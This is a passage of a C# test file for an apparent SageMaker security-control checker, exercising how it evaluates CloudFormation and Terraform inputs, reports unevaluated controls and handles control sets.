                await RunAsync(
                    """{"format_version":"1.2","terraform_version":"1.9.5","planned_values":{"root_module":{"resources":[{"mode":"managed","name":"x","address":"awscc_sagemaker_notebook_instance.x","type":"awscc_sagemaker_notebook_instance","values":{"kms_key_id":"k"}}]}}}""",
                    "--control",
                    "all"
                ),
            }
        )
        {
            Assert.DoesNotContain(answer.Outcomes.Keys, result => result.StartsWith("SageGuard.3 ", StringComparison.Ordinal));
            Assert.Contains(answer.Outcomes.Keys, result => result.StartsWith("SageMaker.21 ", StringComparison.Ordinal));
            Assert.Contains(
                "Not evaluated, because only sageguard scan can, which reads AWS KMS, Amazon ECR and Amazon S3: SageGuard.3, SageGuard.47",
                answer.Output,
                StringComparison.Ordinal
            );
        }
    }

    [Fact]
    public async Task Remote_access_that_Terraform_cannot_set_is_off() =>
        Assert.Equal(
            "passed",
            (await PlanAsync("70", "aws_sagemaker_space", """{"space_name":"lab","domain_id":"d-0123456789ab"}""", [])).Outcomes[
                "SageGuard.70 aws_sagemaker_space.x"
            ]
        );

    [Fact]
    public async Task A_rule_of_what_AWS_Config_does_not_record_is_refused_when_its_template_is_written()
    {
        var refused = await Sageguard.RunAsync("template", "--control", "SageMaker.1,SageGuard.70");

        Assert.Equal(ExitCodes.Usage, refused.Code);
        Assert.Contains(
            "AWS Config does not record AWS::SageMaker::Space: no rule can evaluate it.",
            refused.Error,
            StringComparison.Ordinal
        );

        // A set is taken without it.
        var all = await Sageguard.RunAsync("template", "--control", "all");
        Assert.Equal(ExitCodes.Success, all.Code);
        Assert.Contains("AWS::SageMaker::Domain", all.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("AWS::SageMaker::Space", all.Output, StringComparison.Ordinal);
    }

    // A report says what it was not asked for, and whose severity it is.
    [Fact]
    public async Task A_check_evaluates_the_core_and_says_what_it_left_out()
    {
        var answer = await RunAsync("""{"Resources":{"R":{"Type":"AWS::SageMaker::Domain","Properties":{}}}}""");

        Assert.Equal(
            ControlSet.Core.Controls.Select(control => control.Id),
            answer.Report.GetProperty("controls").EnumerateArray().Select(control => control.GetProperty("id").GetString())
        );
        Assert.Equal(["SageGuard.30 R"], answer.Outcomes.Keys);
        var left = ControlSet.Own.Controls.Count - (ControlSet.Core.Controls.Count - ControlSet.SecurityHub.Controls.Count);
        Assert.Equal(
            $"Not evaluated: {left} of the {ControlSet.Own.Controls.Count} controls of the set sageguard (--control sageguard). Everything: --control all",
            answer.Report.GetProperty("notEvaluated").GetString()
        );
        Assert.All(
            answer.Report.GetProperty("controls").EnumerateArray(),
            control =>
                Assert.Equal(
                    control.GetProperty("id").GetString()!.StartsWith("SageMaker.", StringComparison.Ordinal)
                        ? "security-hub"
                        : "sageguard",
                    control.GetProperty("set").GetString()
                )
        );

        foreach (var format in (string[])["table", "html", "sarif", "markdown"])
        {
            var text = (
                await Sageguard.RunAsync(
                    ["check", "-", "--output", format],
                    Encoding.UTF8.GetBytes("""{"Resources":{"R":{"Type":"AWS::SageMaker::Domain","Properties":{}}}}""")
                )
            ).Output;
            Assert.Contains(
                "Not evaluated",
                string.Join(' ', text.Split((char[])['\n', ' '], StringSplitOptions.RemoveEmptyEntries)),
                StringComparison.Ordinal
            );
        }

        var everything = await RunAsync("""{"Resources":{"R":{"Type":"AWS::SageMaker::Domain","Properties":{}}}}""", "--control", "all");
        Assert.False(everything.Report.TryGetProperty("notEvaluated", out _));
    }

    [Fact]
    public void The_core_is_Security_Hubs_and_ours_on_network_exposure() =>
        Assert.Equal(
            ["SageGuard.30", "SageGuard.70", "SageGuard.80", "SageGuard.94", "SageGuard.95", "SageGuard.96"],
            ControlSet.Core.Controls.Except(ControlSet.SecurityHub.Controls).Select(control => control.Id)
        );

    private static Task<Answer> TemplateAsync(string control, string kind, string properties, string[] options) =>
        RunAsync(
            $$$$$$$"""{"AWSTemplateFormatVersion":"2010-09-09","Parameters":{"P":{"Type":"String"}},"Resources":{"R":{"Type":"AWS::SageMaker::{{{{{{{kind}}}}}}}","Properties":{{{{{{{properties}}}}}}}}}}""",
            ["--control", $"SageGuard.{control}", .. options]
        );

    private static Task<Answer> PlanAsync(string control, string type, string values, string[] options) =>
        RunAsync(
            $$$$$$$"""{"format_version":"1.2","terraform_version":"1.9.5","planned_values":{"root_module":{"resources":[{"mode":"managed","name":"x","address":"{{{{{{{type}}}}}}}.x","type":"{{{{{{{type}}}}}}}","values":{{{{{{{values}}}}}}}}]}}}""",
            ["--control", $"SageGuard.{control}", .. options]
        );

    private static Task<Answer> RunAsync(string text, params string[] options) =>
        Sageguard.RunAsync(["check", "-", "--output", "json", .. options], Encoding.UTF8.GetBytes(text));
}
